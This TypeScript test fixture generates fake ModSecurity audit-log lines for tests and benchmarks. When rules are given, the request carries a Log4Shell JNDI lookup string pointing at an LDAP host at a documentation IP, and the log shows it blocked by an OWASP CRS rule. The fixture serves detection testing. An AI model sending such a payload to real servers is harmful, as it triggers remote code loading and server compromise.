/** Single audit-log lines for tests and benchmarks that need one attack at one moment. */
let serial = 0
const JNDI = '$'.concat('{jndi:ldap://198.51.100.66/a}')
/** A transaction as ModSecurity 3 writes it: clean without `rules`, else a Log4j look-up, which nobody can explain away. */
export const auditLine = (ip: string, rules: readonly number[], at = new Date()): string =>
  `${JSON.stringify({
    transaction: {
      client_ip: ip,
      time_stamp: at
        .toUTCString()
        .replace(
          /^(\w+), (\d+) (\w+) (\d+) (\S+) GMT$/,
          (_, w, d, m, y, c) => `${w} ${m} ${String(Number(d)).padStart(2, ' ')} ${c} ${y}`,
        ),
      server_id: 's',
      client_port: 40_000,
      host_ip: '192.0.2.80',
      host_port: 80,
      unique_id: `${Math.floor(at.getTime() / 1000)}${String(++serial).padStart(2, '0')}.${process.pid}`,
      request: {
        method: 'GET',
        http_version: 1.1,
        uri: rules.length > 0 ? `/?x=${JNDI}` : '/',
        headers: { Host: 'shop.example.net', 'User-Agent': 'curl/8' },
      },
      response: { http_code: rules.length > 0 ? 403 : 200, headers: {} },
      producer: {
        modsecurity: 'ModSecurity v3.0.9 (Linux)',
        connector: 'ModSecurity-nginx v1.0.3',
        secrules_engine: 'Enabled',
        components: [],
      },
      messages: rules.map((ruleId) => ({
        message: 'Potential Remote Command Execution: Log4j / Log4shell',
        details: {
          match: `Matched "Operator \`Rx' with parameter \`x' against variable \`ARGS:x' (Value: \`${JNDI}' )`,
          reference: '',
          ruleId: String(ruleId),
          file: 'REQUEST-944-APPLICATION-ATTACK-JAVA.conf',
          lineNumber: '1',
          data: `Matched Data: ${JNDI} found within ARGS:x: ${JNDI}`,
          severity: '2',
          ver: 'OWASP_CRS/3.3.4',
          rev: '',
          tags: ['application-multi', 'language-java', 'attack-rce', 'paranoia-level/1', 'OWASP_CRS'],
          maturity: '0',
          accuracy: '0',
        },
      })),
    },
  })}\n`
